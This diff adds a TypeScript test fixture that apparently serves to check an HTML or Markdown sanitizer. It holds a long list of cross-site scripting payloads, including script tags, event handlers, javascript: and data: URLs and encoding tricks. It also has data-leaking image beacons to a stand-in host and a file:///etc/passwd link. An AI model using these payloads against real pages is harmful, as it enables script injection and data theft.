@@ -1,0 +1,111 @@
+// 150 texts that would run a script, or make the browser ask somebody, if any reader of them were careless.
+
+/** What would run, were it let; the browser test looks whether this name exists. */
+const RUN = 'window.ran=1';
+/** A name that resolves nowhere: a request to it is seen by the browser, and reaches nobody. */
+const ELSEWHERE = '//elsewhere.invalid';
+
+const TAGS = [
+  `<script>${RUN}</script>`,
+  `<script src=${ELSEWHERE}/x.js></script>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="https:${ELSEWHERE}/p.png">`,
+  `<img srcset="https:${ELSEWHERE}/p.png 1x">`,
+  `<svg onload="${RUN}">`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
+  `<svg><use href="https:${ELSEWHERE}/x.svg#a"/></svg>`,
+  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="https:${ELSEWHERE}/"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="https:${ELSEWHERE}/x.swf">`,
+  `<link rel=stylesheet href="https:${ELSEWHERE}/x.css">`,
+  `<link rel=prefetch href="https:${ELSEWHERE}/x">`,
+  `<style>@import "https:${ELSEWHERE}/x.css";</style>`,
+  `<style>body{background:url(https:${ELSEWHERE}/x)}</style>`,
+  `<p style="background:url(https:${ELSEWHERE}/x)">x</p>`,
+  `<base href="https:${ELSEWHERE}/">`,
+  `<meta http-equiv=refresh content="0;url=https:${ELSEWHERE}/">`,
+  `<form action="https:${ELSEWHERE}/"><input autofocus onfocus="${RUN}"></form>`,
+  `<input type=image src="https:${ELSEWHERE}/x.png">`,
+  `<video poster="https:${ELSEWHERE}/x.png"><source onerror="${RUN}"></video>`,
+  `<audio src="https:${ELSEWHERE}/x.mp3" onerror="${RUN}"></audio>`,
+  `<picture><source srcset="https:${ELSEWHERE}/x"><img alt=x></picture>`,
+  `<details open ontoggle="${RUN}">x</details>`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<body onload="${RUN}">`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a ping="https:${ELSEWHERE}/" href="#">x</a>`,
+  `<math><mtext><mglyph><style><img src=x onerror="${RUN}">`,
+  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
+  `<template><script>${RUN}</script></template>`,
+  `<table background="https:${ELSEWHERE}/x"><tr><td>x</td></tr></table>`,
+  `<!--><img src=x onerror="${RUN}">-->`,
+  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
+  `<?xml-stylesheet href="https:${ELSEWHERE}/x"?>`,
+  `<x onclick="${RUN}" tabindex=1 autofocus onfocus="${RUN}">x</x>`,
+];
+
+const LINKS = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  ` javascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `javascript://elsewhere.invalid/%0a${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
+  `vbscript:${RUN}`,
+  `blob:https:${ELSEWHERE}/x`,
+  `file:///etc/passwd`,
+  `view-source:https:${ELSEWHERE}`,
+  `${ELSEWHERE}/x`,
+  `https:${ELSEWHERE}/?secret=speech`,
+];
+const IN_MARKDOWN = [
+  (link: string) => `[x](${link})`,
+  (link: string) => `[x](<${link}>)`,
+  (link: string) => `![x](${link})`,
+  (link: string) => `<${link}>`,
+  (link: string) => `[x][r]\n\n[r]: ${link}`,
+];
+
+const ODD = [
+  `\`\`\`mermaid\nclick a "javascript:${RUN}"\n\`\`\``,
+  `\`\`\`html\n<script>${RUN}</script>`,
+  `$\\href{javascript:${RUN}}{x}$`,
+  `[x](https:${ELSEWHERE} "onmouseover=${RUN}")`,
+  `![x](https:${ELSEWHERE}/p.png?said=everything)`,
+  `[![x](https:${ELSEWHERE}/p.png)](javascript:${RUN})`,
+  `| a |\n|---|\n| <img src=x onerror="${RUN}"> |`,
+  `- [ ] <input onfocus="${RUN}" autofocus>`,
+  `[^1]\n\n[^1]: <img src=x onerror="${RUN}">`,
+  `"><img src=x onerror="${RUN}">`,
+  `'-${RUN}-'`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><img src=x onerror="${RUN}">`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `<scr<script>ipt>${RUN}</script>`,
+  `\u202e<script>${RUN}</script>`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `<img/src='x'/onerror=${RUN}>`,
+  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
+  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `www.elsewhere.invalid/x`,
+  `x@elsewhere.invalid`,
+];
+
+/** Each with a mark of its own, so that a test can see that it was there to be read. */
+export const PAYLOADS: readonly { mark: string; text: string }[] = [
+  ...TAGS,
+  ...LINKS.flatMap((link) => IN_MARKDOWN.map((write) => write(link))),
+  ...ODD,
+].map((text, index) => ({ mark: `mark${index}end`, text: `mark${index}end ${text}` }));
